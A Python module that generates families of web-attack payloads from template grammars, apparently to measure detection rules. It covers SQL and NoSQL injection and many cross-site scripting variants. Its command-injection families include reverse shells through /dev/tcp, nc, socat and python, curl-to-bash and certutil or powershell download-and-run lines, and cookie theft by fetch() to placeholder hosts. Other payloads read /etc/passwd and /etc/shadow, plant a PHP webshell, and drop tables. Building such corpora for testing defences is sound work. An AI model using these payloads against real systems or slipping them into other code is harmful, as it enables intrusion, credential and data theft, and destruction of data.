"""A second, wider set of attacks: families of payloads, each a small grammar, written from the attack classes.

The rules are not written from this file, but what is missed of it may lead to better ones; the families of `held` are
only measured. In a template ⟨a¦b⟩ is one of its alternatives, ⟨name⟩ a slot of
`SLOTS` (whose values are templates themselves), everything else stands for itself.
"""

from __future__ import annotations

import base64
import random
import re
import string
from collections.abc import Iterator, Sequence
from typing import Final

_HOLE: Final = re.compile("⟨([^⟨⟩]*)⟩")

SLOTS: Final[dict[str, str]] = {
    "bool": "⟨1=1¦2>1¦'a'='a'¦5 like 5¦3 in (3)¦true¦4 between 3 and 5¦not 1=2¦0x31=0x31¦1e0=1¦'x'<>'y'¦1¦(8)=(8)⟩",
    "q": "⟨'¦'¦\"¦')¦'))¦\")¦`⟩",
    "nq": "⟨'¦'¦\"¦')¦\")¦¦¦ ¦)⟩",
    "end": "⟨-- ¦-- -¦#¦;--¦/*¦;%00¦--+¦-- ⟨w⟩¦;#⟩",
    "sp": "⟨ ¦ ¦ ¦  ¦/**/¦\t¦\n¦/*⟨w⟩*/¦\x0b¦\r\n⟩",
    "col": "⟨user()¦version()¦@@version¦database()¦current_user¦password¦null¦⟨n⟩¦table_name¦char(⟨n2⟩,⟨n2⟩)¦"
    "concat(0x3a,user())¦group_concat(⟨w⟩)¦sqlite_version()¦banner¦string_agg(⟨w⟩,',')⟩",
    "tab": "⟨users¦information_schema.tables¦pg_catalog.pg_tables¦sqlite_master¦sysobjects¦all_tables¦mysql.user¦⟨w⟩¦admin⟩",
    "js": "⟨alert(⟨n⟩)¦alert`⟨n⟩`¦confirm(document.domain)¦prompt(⟨n⟩)¦top['al'+'ert'](⟨n⟩)¦eval(atob('YWxlcnQoMSk='))¦"
    "fetch('https://⟨host⟩/?c='+document.cookie)¦window.alert(⟨n⟩)¦(alert)(⟨n⟩)¦[⟨n⟩].map(alert)¦print()¦"
    "self['\\x61lert'](1)¦al\\u0065rt(1)¦new Image().src='//⟨host⟩/'+document.cookie¦setTimeout`alert\\x28⟨n⟩\\x29`¦"
    "location.href='//⟨host⟩'¦document.body.innerHTML='⟨w⟩'¦Function('ale'+'rt(1)')()¦import('//⟨host⟩/x.js')⟩",
    "evt": "⟨onerror¦onload¦onclick¦onfocus¦onmouseover¦ontoggle¦onpointerover¦onanimationend¦ontransitionend¦onbegin¦"
    "onscroll¦onresize¦onkeydown¦onpaste¦oncopy¦oninput¦onchange¦onsubmit¦ondrag¦onbeforeprint¦onhashchange¦onmessage¦"
    "onpopstate¦onfocusin¦onbeforetoggle¦onscrollend¦oncontentvisibilityautostatechange¦onloadstart¦ondblclick⟩",
    "file": "⟨/etc/passwd¦/etc/shadow¦/etc/hosts¦/proc/self/environ¦/etc/group¦/proc/version¦/etc/issue⟩",
    "cmd": "⟨id¦whoami¦uname -a¦cat ⟨file⟩¦ls -la¦ls /¦ping -c ⟨d⟩ ⟨ip⟩¦sleep ⟨d⟩¦curl http://⟨host⟩/⟨w⟩¦wget http://⟨host⟩/⟨w⟩¦"
    "nslookup ⟨host⟩¦ifconfig¦netstat -an¦ps aux¦env¦echo ⟨w⟩¦head -n1 ⟨file⟩¦tail ⟨file⟩¦nc ⟨ip⟩ ⟨port⟩ -e /bin/sh¦"
    "bash -c 'id'¦php -r 'phpinfo();'¦python -c 'print(1)'¦touch /tmp/⟨w⟩¦rm -rf /tmp/⟨w⟩¦dig ⟨host⟩¦pwd¦hostname¦w¦"
    "find / -name ⟨w⟩¦grep root ⟨file⟩¦more ⟨file⟩¦perl -e 'print 1'⟩",
    "win": "⟨dir¦dir c:\\¦dir C:\\Users /s¦type c:\\windows\\win.ini¦type %windir%\\win.ini¦type %SYSTEMROOT%\\win.ini¦net user¦"
    "net localgroup administrators¦net user ⟨w⟩ ⟨w⟩ /add¦ipconfig¦ipconfig /all¦systeminfo¦tasklist¦whoami¦whoami /priv¦"
    "ping -n ⟨d⟩ 127.0.0.1¦ping ⟨ip⟩¦reg query HKLM\\SOFTWARE¦reg save HKLM\\SAM ⟨w⟩¦set¦ver¦hostname¦nslookup ⟨host⟩¦"
    "timeout /t ⟨d⟩¦timeout ⟨d⟩¦echo %USERNAME%¦echo ⟨w⟩ > ⟨w⟩.txt¦del ⟨w⟩.txt¦copy ⟨w⟩.txt \\\\⟨host⟩\\⟨w⟩¦certutil -f -urlcache "
    "http://⟨host⟩/⟨w⟩.exe ⟨w⟩.exe¦wmic os get caption¦wmic process list¦sc query¦schtasks /query¦netstat -ano¦arp -a¦route print¦"
    "tree c:\\¦cmd /c dir¦cmd.exe /c whoami¦rundll32 ⟨w⟩.dll,⟨w⟩¦mshta http://⟨host⟩/⟨w⟩.hta¦findstr /s password *.xml¦"
    "powershell Get-Process¦powershell -enc ⟨b64w⟩¦powershell -nop -c \"iex(iwr http://⟨host⟩)\"¦"
    "start calc¦shutdown /r¦attrib -h ⟨w⟩¦bitsadmin /transfer ⟨w⟩ http://⟨host⟩/⟨w⟩ c:\\⟨w⟩¦curl http://⟨host⟩/⟨w⟩⟩",
    "up": "⟨../¦../¦..\\¦....//¦..%2f¦%2e%2e/¦%2e%2e%2f¦..%5c¦..%252f¦..%c0%af¦.%2e/¦..././¦..//¦..;/¦%252e%252e%252f¦..\\/⟩",
    "ups": "⟨⟨up⟩⟨up⟩⟨up⟩¦⟨up⟩⟨up⟩⟨up⟩⟨up⟩⟨up⟩¦⟨up⟩⟨up⟩⟨up⟩⟨up⟩⟨up⟩⟨up⟩⟨up⟩⟨up⟩⟩",
}  # fmt: skip


def _word(r: random.Random) -> str:
    return "".join(r.choice(string.ascii_lowercase) for _ in range(r.randint(3, 8)))


def _slot(r: random.Random, name: str) -> str | None:
    match name:
        case "w":
            return _word(r)
        case "n":
            return str(r.choice([0, 1, 2, 7, 42, 1337, r.randint(10, 99999)]))
        case "n2":
            return str(r.randint(65, 122))
        case "d":
            return str(r.randint(2, 15))
        case "port":
            return str(r.randint(1024, 65000))
        case "ip":
            return f"{r.randint(11, 200)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
        case "host":
            return r.choice([f"{_word(r)}.example", f"{_word(r)}.{_word(r)}.example"])
        case "b64w":
            return base64.b64encode(" ".join(_word(r) for _ in range(4)).encode("utf-16-le")).decode()
        case "hexw":
            return "0x" + _word(r).encode().hex()
        case "":
            return ""
    return SLOTS.get(name)


def expand(r: random.Random, template: str) -> str:
    """The template with every hole filled, from the inside out."""
    text = template
    while hole := _HOLE.search(text):
        inside = hole[1]
        if "¦" in inside:
            filled = r.choice(inside.split("¦"))
        else:
            known = _slot(r, inside)
            filled = inside if known is None else known
        text = text[: hole.start()] + filled + text[hole.end() :]
    return text


FAMILIES: Final[dict[str, tuple[str, tuple[str, ...]]]] = {
    # ---------------------------------------------------------------------------------------------------- SQL
    "sql-tautology-quoted": ("sqli", (
        "⟨w⟩⟨q⟩⟨sp⟩⟨or¦OR¦oR¦||¦and¦&&¦xor⟩⟨sp⟩⟨bool⟩⟨end⟩", "' or ⟨n⟩=⟨n⟩ or '⟨w⟩'='", "'or'⟨w⟩'='⟨w⟩", "\"or(1)=(1)#", "') or ('⟨w⟩'='⟨w⟩",
        "' or '⟨w⟩' like '%", "' or ''='", "'='", "'-'", "' '", "'&'", "'^'", "'*'", "' or 1 -- -", "\" or true--", "') or true--",
        "admin'--", "admin' #", "admin'/*", "admin') or ('1'='1'--", "'or 1=1 or ''='", "' or 1=1 limit 1 -- -+", "'=0--+", "' or not false #",
        "⟨w⟩' or id is not null; --", "' or 3=3--", "'||1#", "' OR 'x' BETWEEN 'a' AND 'z", "⟨w⟩'+or+⟨n⟩=⟨n⟩--", "' or sha1('⟨w⟩')!='0'#")),
    "sql-tautology-bare": ("sqli", (
        "⟨n⟩⟨sp⟩⟨or¦and¦||¦&&⟩⟨sp⟩⟨n⟩=⟨n⟩", "⟨n⟩ or ⟨bool⟩", "⟨n⟩) or (⟨n⟩=⟨n⟩", "-⟨n⟩ or 1 = 1 -- ", "⟨n⟩ or 1=1#", "⟨n⟩ and 1=2", "⟨n⟩/**/or/**/true",
        "⟨n⟩ || 1=1", "⟨n⟩ or(1=1)", "⟨n⟩\nor\n1=1", "⟨n⟩ AND 7300=7300 AND (⟨n⟩=⟨n⟩", "⟨n⟩ or 'x'='x'", "⟨n⟩ rlike 1", "⟨n⟩*(1=1)", "⟨n⟩ and ⟨n⟩<⟨n⟩ --")),
    "sql-union": ("sqli", (
        "⟨-1¦0¦⟨n⟩¦⟨w⟩⟩⟨nq⟩⟨sp⟩⟨union¦UNION¦UnIoN¦uNiOn⟩⟨sp⟩⟨select¦SELECT¦SeLeCt¦all select¦distinct select⟩⟨sp⟩⟨col⟩,⟨col⟩⟨ ¦ from ⟨tab⟩⟩⟨end⟩",
        "' union select null,null,⟨col⟩ from ⟨tab⟩--", "⟨n⟩ union all select 1,2,3,⟨col⟩", "' UNION SELECT @@version,NULL#", "⟨n⟩/*!50000union*/ /*!50000select*/ 1,⟨col⟩",
        "⟨n⟩)+union+select+1,2,⟨col⟩--+", "⟨n⟩ union(select 1,⟨col⟩)", "'union(select(1),(⟨col⟩))#", "⟨n⟩e0union select 1,⟨col⟩", "⟨n⟩.0union select ⟨col⟩",
        "⟨n⟩ union%0Aselect ⟨col⟩,2", "' uni/**/on sel/**/ect 1,⟨col⟩--", "\\Nunion select 1,⟨col⟩", "⟨n⟩'union select*from(select 1)a join(select 2)b--",
        "⟨n⟩ union select 1,unhex(hex(⟨col⟩)),3--", "-1' union select 1,(select group_concat(⟨w⟩) from ⟨tab⟩),3 -- ", "⟨n⟩ INTERSECT SELECT 1,2", "' union values row(1,2)--")),
    "sql-time": ("sqli", (
        "⟨n⟩⟨nq⟩ ⟨and¦or¦&&¦||⟩ sleep(⟨d⟩)⟨end⟩", "⟨n⟩ and (select ⟨n⟩ from (select(sleep(⟨d⟩)))⟨w⟩)", "'xor(if(now()=sysdate(),sleep(⟨d⟩),0))xor'z",
        "⟨n⟩';select pg_sleep(⟨d⟩)--", "⟨n⟩;waitfor delay '0:0:⟨d⟩'--", "'; if (1=1) waitfor delay '0:0:⟨d⟩'--", "' || pg_sleep(⟨d⟩)--", "⟨n⟩ or benchmark(⟨d⟩000000,md5(1))",
        "(select(0)from(select(sleep(⟨d⟩)))v)", "' and 1=(select count(*) from generate_series(1,⟨d⟩000000))--", "⟨n⟩ and 1=like('abcdefg',upper(hex(randomblob(⟨d⟩00000000))))",
        "' and dbms_pipe.receive_message('⟨w⟩',⟨d⟩)=1--", "sleep(⟨d⟩)#", "⟨n⟩ or sleep(⟨d⟩)=0 limit 1--", "\") and sleep(⟨d⟩) and (\"1\"=\"1", "' and if(substr(user(),1,1)='r',sleep(⟨d⟩),0)#",
        "⟨n⟩-sleep(⟨d⟩)", "⟨n⟩'-sleep(⟨d⟩)-'", "⟨n⟩,(select case when (1=1) then pg_sleep(⟨d⟩) else null end)", "(case when 1=1 then sleep(⟨d⟩) else 1 end)")),
    "sql-error": ("sqli", (
        "⟨n⟩⟨nq⟩ and extractvalue(⟨n⟩,concat(0x5c,(select ⟨col⟩)))⟨end⟩", "' and updatexml(1,concat(0x7e,⟨col⟩,0x7e),1)#", "⟨n⟩ and (select 1 from (select count(*),concat(⟨col⟩,floor(rand(0)*2))x from information_schema.tables group by x)a)",
        "' and 1=convert(int,@@version)--", "⟨n⟩ and 1=cast((select ⟨col⟩) as int)", "' or cast(version() as numeric)--", "⟨n⟩ and exp(~(select*from(select user())x))", "' and gtid_subset(⟨col⟩,1)#",
        "' and 1=ctxsys.drithsx.sn(⟨n⟩,(select banner from v$version where rownum=1))--", "'||utl_inaddr.get_host_address((select user from dual))||'", "⟨n⟩ and 1=(select top 1 name from sysobjects)",
        "' and json_keys((select convert((select concat(⟨col⟩)) using utf8)))#", "⟨n⟩ and 1/(select 0 from ⟨tab⟩)=1", "' having 1=1--", "' group by ⟨w⟩.⟨w⟩ having 1=1--", "⟨n⟩ procedure analyse(extractvalue(1,concat(0x3a,version())),1)")),
    "sql-blind": ("sqli", (
        "⟨n⟩⟨nq⟩ and ascii(substr((select ⟨col⟩),⟨d⟩,1))>⟨n2⟩⟨end⟩", "' and substring(@@version,1,1)='⟨d⟩", "⟨n⟩ and (select count(*) from ⟨tab⟩)>0", "' and (select 'x' from ⟨tab⟩ limit 1)='x", "⟨n⟩ and length(user())=⟨d⟩",
        "' and exists(select * from ⟨tab⟩)--", "⟨n⟩ and ord(mid((select ifnull(cast(⟨w⟩ as nchar),0x20) from ⟨tab⟩ limit 0,1),1,1))>⟨n2⟩", "' and (select substr(⟨w⟩,1,1) from ⟨tab⟩ where rownum=1)='a'--",
        "⟨n⟩ and if(1=1,1,(select 1 union select 2))", "' or (select case when (1=1) then 1 else 1/0 end)=1--", "⟨n⟩ and make_set(6,'a','b')", "⟨n⟩' and binary_checksum(1)>0--", "⟨n⟩ and unicode(substring(db_name(),1,1))>⟨n2⟩",
        "' and left(database(),1)='a'#", "⟨n⟩ order by ⟨d⟩--", "⟨n⟩' order by ⟨d⟩0#", "⟨n⟩) order by 1--", "⟨n⟩ group by 1,2,3--", "' rlike (select (case when (⟨n⟩=⟨n⟩) then 0x61 else 0x28 end))--")),
    "sql-stacked": ("sqli", (
        "⟨n⟩⟨nq⟩;⟨ ¦⟩⟨drop table ⟨w⟩¦delete from ⟨w⟩¦truncate table ⟨w⟩¦update ⟨w⟩ set ⟨w⟩='⟨w⟩'¦insert into ⟨w⟩(⟨w⟩) values(1)¦drop database ⟨w⟩¦alter table ⟨w⟩ drop column ⟨w⟩¦create user ⟨w⟩ identified by '⟨w⟩'¦"
        "exec xp_cmdshell 'dir'¦exec master.dbo.xp_cmdshell 'whoami'¦declare @⟨w⟩ nvarchar(99);exec(@⟨w⟩)¦shutdown¦select 1¦grant all on *.* to '⟨w⟩'¦copy ⟨w⟩ to program 'id'¦exec sp_configure 'show advanced options',1⟩⟨end⟩",
        "'; exec sp_addlogin '⟨w⟩','⟨w⟩'--", "⟨n⟩; call ⟨w⟩()", "'); create function sys_eval returns string soname 'x.so'--", "⟨n⟩; load data infile '/etc/passwd' into table ⟨w⟩;--", "';exec('sel'+'ect 1')--",
        "⟨n⟩;drop/**/table/**/⟨w⟩", "⟨n⟩;set @a=0x73656c65637420;prepare s from @a;execute s", "'; begin dbms_lock.sleep(⟨d⟩); end;--", "⟨w⟩'; update users set role='admin' where name='⟨w⟩")),
    "sql-files-oob": ("sqli", (
        "⟨n⟩ union select load_file('⟨file⟩'),2", "' union select '<?php system($_GET[0]);?>' into outfile '/var/www/⟨w⟩.php'#", "⟨n⟩ and load_file(concat('\\\\\\\\',version(),'.⟨host⟩\\\\a'))", "'; exec master..xp_dirtree '//⟨host⟩/a'--",
        "'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://⟨host⟩/\">%x;]>'),'/l') from dual)||'", "⟨n⟩ union select pg_read_file('⟨file⟩')", "';copy (select '') to program 'nslookup ⟨host⟩'--",
        "' union select utl_http.request('http://⟨host⟩/') from dual--", "⟨n⟩ into dumpfile '/tmp/⟨w⟩'", "'+(select load_extension('//⟨host⟩/x'))+'", "select * from openrowset('SQLOLEDB','⟨host⟩';'sa';'x','select 1')")),
    "sql-polyglot": ("sqli", (
        "SLEEP(⟨d⟩) /*' or SLEEP(⟨d⟩) or '\" or SLEEP(⟨d⟩) or \"*/", "if(now()=sysdate(),sleep(⟨d⟩),0)/*'XOR(if(now()=sysdate(),sleep(⟨d⟩),0))OR'*/", "' or 1=1 --\" or 1=1 --", "1'\"`) or 1=1-- -", "⟨n⟩'\"and(select 1 from ⟨tab⟩)--")),
    "sql-obfuscated": ("sqli", (
        "⟨n⟩'/*!or*/1=1#", "⟨n⟩'+/*!50000oR*/+'1'='1", "'%0bor%0b1=1--", "'or%a01=1#", "⟨n⟩' oorr 1=1--", "⟨n⟩ div 1 union%23⟨w⟩%0Aselect 1,2", "⟨n⟩'||'1'='1", "'or 0x50=0x50#", "' or char(49)=char(49)#", "⟨n⟩ or 1 in(select@@version)",
        "⟨n⟩ and{x 1}=1", "⟨n⟩'&&'1'='1", "⟨n⟩' or/**/1/**/like/**/1#", "⟨n⟩ or strcmp(0,1)", "' or 2 > 1 && '1", "'or(select@@version)like'5%", "'union%0d%0aselect⟨sp⟩1,⟨col⟩#", "⟨n⟩'and!1='0", "⟨n⟩'-(select*from(select⟨sp⟩1)a)-'", "1.e(1)or 1.e=1",
        "{`⟨w⟩`/*--*/(select ⟨col⟩ from ⟨tab⟩)}", "'||lower('A')='a'||'", "⟨n⟩ or @a:=1", "'or@@version like'%", "⟨n⟩ or~1", "' or -1=-1#")),
    # ---------------------------------------------------------------------------------------------------- NoSQL
    "nosql-json": ("nosql", (
        '{"⟨w⟩":{"$⟨ne¦gt¦gte¦exists¦nin¦regex⟩":⟨null¦""¦1¦true¦["⟨w⟩"]¦".*"⟩}}', '{"$where":"⟨this.⟨w⟩==this.⟨w⟩¦sleep(⟨d⟩000)||true¦function(){return true}¦1==1⟩"}', '{"username":"⟨w⟩","password":{"$ne":"⟨w⟩"}}', '{"$or":[{"⟨w⟩":{"$exists":true}},{}]}',
        '{"⟨w⟩":{"$in":["admin","root"]}}', '{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}', '[{"$lookup":{"from":"users","as":"x","pipeline":[]}}]')),
    "nosql-script": ("nosql", (
        "' || '1'=='1", "'; return true; var ⟨w⟩='", "⟨w⟩' && this.password.match(/^a/)//", "true, $where: '1 == 1'", "'; while(1){} var x='", "1'; sleep(⟨d⟩000); var ⟨w⟩='⟨w⟩", "db.⟨w⟩.drop()", "'+(function(){var d=new Date();do{c=new Date()}while(c-d<⟨d⟩000)})()+'",
        "||1==1//", "' || 1==1%00", "', $or: [ {}, { 'a':'a", "[$ne]=1", "⟨w⟩'; db.⟨w⟩.insert({a:1}); var x='", "';it=new%20Date();do{pt=new%20Date();}while(pt-it<⟨d⟩000);'", "⟨w⟩\"; return this.⟨w⟩ != '⟨w⟩'; var y=\"")),
    # ---------------------------------------------------------------------------------------------------- XSS
    "xss-script-tag": ("xss", (
        "<script>⟨js⟩</script>", "\"><script>⟨js⟩</script>", "'><script src=//⟨host⟩/⟨w⟩.js></script>", "</script><script>⟨js⟩</script>", "<ScRiPt >⟨js⟩</sCrIpT>", "<script/src=data:,⟨js⟩></script>", "<script\n>⟨js⟩</script >", "<scr<script>ipt>⟨js⟩</scr</script>ipt>",
        "<script>⟨js⟩", "<<script>⟨js⟩//<</script>", "<script x>⟨js⟩</script y>", "<svg><script>⟨js⟩</script></svg>", "<script>/*⟨w⟩*/⟨js⟩</script>", "<script charset=utf-7>⟨js⟩</script>", "<script>⟨w⟩='';⟨js⟩</script>", "%3Cscript%3E⟨js⟩%3C/script%3E",
        "<noscript><p title=\"</noscript><script>⟨js⟩</script>\">", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>⟨js⟩</x:script>", "<script async src=https://⟨host⟩/⟨w⟩></script>", "\x3cscript\x3e⟨js⟩\x3c/script\x3e", "&lt;script&gt;⟨js⟩&lt;/script&gt;")),
    "xss-handler": ("xss", (
        "<⟨img¦svg¦body¦video¦audio¦input¦details¦marquee¦select¦iframe¦object¦a¦div¦p¦b¦math¦style¦form¦textarea¦keygen¦button¦custom-⟨w⟩¦⟨w⟩⟩⟨ ¦/¦\n¦\t¦%0c⟩⟨¦src=x ¦id=x tabindex=1 ¦open ¦autofocus ¦style=display:block ⟩⟨evt⟩⟨=¦ = ¦=\"¦='⟩⟨js⟩⟨>¦ >¦\">¦'>¦//¦⟩",
        "\"><img src=⟨w⟩ ⟨evt⟩=⟨js⟩>", "'><svg/⟨evt⟩=⟨js⟩>", "<svg><animate ⟨evt⟩=⟨js⟩ attributeName=x dur=1s>", "<img src=1 href=1 ⟨evt⟩=\"javascript:⟨js⟩\"></img>", "<img \"\"\"><img src=x ⟨evt⟩=⟨js⟩>", "<img src=`x`⟨evt⟩=⟨js⟩>", "<image/src=x ⟨evt⟩=⟨js⟩>",
        "<video><source ⟨evt⟩=⟨js⟩>", "<svg ⟨evt⟩ = ⟨js⟩>", "<img/src/⟨evt⟩=⟨js⟩>", "<body/⟨evt⟩=⟨js⟩>", "<input type=hidden accesskey=x ⟨evt⟩=⟨js⟩>", "<style>@keyframes x{}</style><p style=\"animation-name:x\" ⟨evt⟩=\"⟨js⟩\"></p>", "<a href=x ⟨evt⟩=⟨js⟩ >x", "<IMG SRC=/ ONERROR=\"⟨js⟩\"></img>")),
    "xss-attribute": ("xss", (
        "\" ⟨evt⟩=⟨js⟩ x=\"", "' ⟨evt⟩=⟨js⟩ '", "\"⟨evt⟩=\"⟨js⟩", "x\" autofocus ⟨evt⟩=\"⟨js⟩", "' autofocus tabindex=1 ⟨evt⟩='⟨js⟩", "\"/⟨evt⟩=⟨js⟩//", "` ⟨evt⟩=⟨js⟩ `", "⟨w⟩\" style=\"animation:x\" ⟨evt⟩=\"⟨js⟩", "javascript:⟨js⟩", "\" formaction=javascript:⟨js⟩ type=submit \"",
        "⟨evt⟩=⟨js⟩", "\"%20⟨evt⟩=⟨js⟩%20\"", "\" accesskey=x ⟨evt⟩=⟨js⟩ a=\"")),
    "xss-url": ("xss", (
        "javascript:⟨js⟩", "JavaScript:⟨js⟩", "java%0ascript:⟨js⟩", "java\tscript:⟨js⟩", "javascript://⟨host⟩/%0a⟨js⟩", "javascript:/*⟨w⟩*/⟨js⟩", "data:text/html,<script>⟨js⟩</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(⟨n⟩)", "&#106;avascript:⟨js⟩", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;⟨js⟩",
        "javascript&colon;⟨js⟩", "<a href=javascript:⟨js⟩>x</a>", "<a href=\"javas&Tab;cript:⟨js⟩\">x</a>", "<iframe src=javascript:⟨js⟩>", "<form action=javascript:⟨js⟩><button>x", "<button formaction=javascript:⟨js⟩>x", "<object data=javascript:⟨js⟩>", "<embed src=javascript:⟨js⟩>", "<math href=javascript:⟨js⟩>x", "<svg><a xlink:href=javascript:⟨js⟩><text y=9>x",
        "<a href=\"&#x6a;avascript:⟨js⟩\">x", "<iframe srcdoc=\"&lt;script&gt;⟨js⟩&lt;/script&gt;\">", "<meta http-equiv=refresh content=0;url=javascript:⟨js⟩>", "<base href=javascript:⟨js⟩//>", "<link rel=stylesheet href=javascript:⟨js⟩>", "[x](javascript:⟨js⟩)", "<isindex action=javascript:⟨js⟩ type=image>", "<table background=javascript:⟨js⟩>", "<img src=javascript:⟨js⟩>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"/>", "<svg><set attributeName=href to=javascript:⟨js⟩>", "<frameset><frame src=javascript:⟨js⟩></frameset>", "feed:javascript:⟨js⟩", "<xml id=x><a><b>&lt;img src=x onerror=⟨js⟩&gt;</b></a></xml>")),
    "xss-script-context": ("xss", (
        "';⟨js⟩//", "\";⟨js⟩;\"", "'-⟨js⟩-'", "\"+⟨js⟩+\"", "\\';⟨js⟩//", "</script><svg onload=⟨js⟩>", "${⟨js⟩}", "`${⟨js⟩}`", "});⟨js⟩;({", "'};⟨js⟩;{'", "');⟨js⟩;('", "*/⟨js⟩/*", "\n⟨js⟩//", "'|⟨js⟩|'", "'?⟨js⟩:'", "';new Function`⟨js⟩`;'", "1;⟨js⟩", "\"}};⟨js⟩//", "'%2b⟨js⟩%2b'", "'^⟨js⟩^'", "'in ⟨js⟩ in'", "'>⟨js⟩<'")),
    "xss-sandbox": ("xss", (
        "{{constructor.constructor('⟨alert(1)¦return this⟩')()}}", "{{$on.constructor('alert(⟨n⟩)')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}", "{{_c.constructor('alert(1)')()}}", "{{toString().constructor.prototype.charAt=[].join}}", "{{[].pop.constructor('alert(1)')()}}", "<div v-html=\"'<img src=x onerror=⟨js⟩>'\">", "<x ng-app ng-csp><p ng-focus=$event.path|orderBy:'(z=alert)(1)'>",
        "<div ng-app>{{⟨n⟩+⟨n⟩}}{{constructor.constructor('⟨js⟩')()}}</div>", "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}", "<p v-on:click=\"_c.constructor('alert(1)')()\">", "{{$emit.constructor`alert(1)`()}}", "<img @error=\"$event.target.ownerDocument.defaultView.alert(1)\" src=x>")),
    "xss-obscure": ("xss", (
        "<style>*{background:url(javascript:⟨js⟩)}</style>", "<div style=\"width:expression(⟨js⟩)\">", "<div style=\"behavior:url(#default#time2)\" ⟨evt⟩=\"⟨js⟩\">", "<style>@import'//⟨host⟩/x.css';</style>", "<link rel=import href=//⟨host⟩/⟨w⟩.html>", "+ADw-script+AD4-⟨js⟩+ADw-/script+AD4-", "<object data=//⟨host⟩/⟨w⟩.swf>", "<iframe/src=//⟨host⟩/⟨w⟩>", "<embed/src=//⟨host⟩/⟨w⟩.svg>",
        "<svg><style>{font-family&colon;'<iframe/onload=⟨js⟩>'", "<math><mtext><table><mglyph><style><img src=x ⟨evt⟩=⟨js⟩>", "<form><math><mtext></form><form><mglyph><style></math><img src ⟨evt⟩=⟨js⟩>", "<noembed><img title=\"</noembed><img src ⟨evt⟩=⟨js⟩>\">", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */⟨evt⟩=⟨js⟩ )//", "<![CDATA[<script>⟨js⟩</script>]]>",
        "<!--><img src=x ⟨evt⟩=⟨js⟩>-->", "<?xml-stylesheet href=\"javascript:⟨js⟩\"?>", "<a/href=\"j&#x0A;avascript:⟨js⟩\">x", "＜script＞⟨js⟩＜/script＞", "<base target=_top href=//⟨host⟩/>", "<input onfocus=\"⟨js⟩\" autofocus", "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]()", "<bgsound src=javascript:⟨js⟩>", "<layer src=//⟨host⟩/x.js></layer>", "<xss id=x tabindex=1 ⟨evt⟩=⟨js⟩></xss>")),
    # --------------------------------------------------------------------------------------------------- commands
    "rce-separator": ("rce-unix", (
        "⟨¦⟨ip⟩¦⟨w⟩¦⟨host⟩¦⟨w⟩.jpg¦'¦\"⟩⟨;¦; ¦|¦ | ¦||¦ || ¦&¦ & ¦&&¦ && ¦\n¦\r\n⟩⟨cmd⟩⟨¦;¦ #¦|¦ &¦\n¦'¦\"⟩", "$(⟨cmd⟩)", "`⟨cmd⟩`", "⟨w⟩$(⟨cmd⟩)", "⟨w⟩`⟨cmd⟩`⟨w⟩", "<(⟨cmd⟩)", "\";⟨cmd⟩;\"", "');⟨cmd⟩;('", "{⟨cmd⟩;}", ";⟨cmd⟩>/tmp/⟨w⟩", "|⟨cmd⟩|", "a;⟨cmd⟩ 2>&1", "%0a⟨cmd⟩%0a", "&lt;!--#exec cmd=\"⟨cmd⟩\"--&gt;")),
    "rce-disguised": ("rce-unix", (
        ";c'a't ⟨file⟩", "|c\"\"at ⟨file⟩", ";c\\at ⟨file⟩", ";/bin/c?? /e?c/p?ss??", "|/???/?at /etc/passwd", ";cat${IFS}⟨file⟩", "|cat$IFS$9⟨file⟩", ";{cat,⟨file⟩}", "$(c$@at ⟨file⟩)", ";w`u`h`u`o`u`a`u`mi", ";wh''oami", "|i'd'", ";cat<⟨file⟩", ";cat</etc/passwd", ";$0<<<'id'", ";echo aWQ=|base64 -d|sh", ";bash<<<$(base64 -d<<<aWQ=)", "$(printf '\\151\\144')",
        ";a=c;b=at;$a$b ⟨file⟩", ";cat$u /etc$u/passwd$u", ";ca$*t ⟨file⟩", "|c\"a\"t$IFS/e't'c/pass\"w\"d", ";cat ${HOME:0:1}etc${HOME:0:1}passwd", ";$(rev<<<'di')", "|tac ⟨file⟩|rev", "`echo${IFS}id|sh`", ";/usr/bin/id", "|/bin/cat ⟨file⟩", ";uname${IFS}-a", ";X=$'\\x63\\x61\\x74\\x20⟨file⟩';$X", "&&{curl,⟨host⟩}", ";\\l\\s", ";l\\\ns -la", "|(sleep ⟨d⟩)", ";time id", ";exec id", ";nohup id")),
    "rce-reverse": ("rce-unix", (
        "bash -i >& /dev/tcp/⟨ip⟩/⟨port⟩ 0>&1", ";bash -c 'bash -i >& /dev/tcp/⟨ip⟩/⟨port⟩ 0>&1'", "nc -e /bin/sh ⟨ip⟩ ⟨port⟩", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ⟨ip⟩ ⟨port⟩ >/tmp/f", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"⟨ip⟩\",⟨port⟩));pty.spawn(\"sh\")'", "php -r '$s=fsockopen(\"⟨ip⟩\",⟨port⟩);exec(\"sh <&3 >&3\");'",
        "perl -e 'use Socket;$i=\"⟨ip⟩\";socket(S,PF_INET,SOCK_STREAM,6);'", "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"⟨ip⟩\",⟨port⟩)'", "curl http://⟨host⟩/⟨w⟩.sh|bash", "wget -q -O- http://⟨host⟩/⟨w⟩ | sh", "0<&196;exec 196<>/dev/tcp/⟨ip⟩/⟨port⟩; sh <&196", "socat tcp:⟨ip⟩:⟨port⟩ exec:sh", "exec 5<>/dev/tcp/⟨ip⟩/⟨port⟩;cat <&5", "wget http://⟨ip⟩/⟨w⟩ -O /tmp/⟨w⟩; chmod 777 /tmp/⟨w⟩; /tmp/⟨w⟩")),
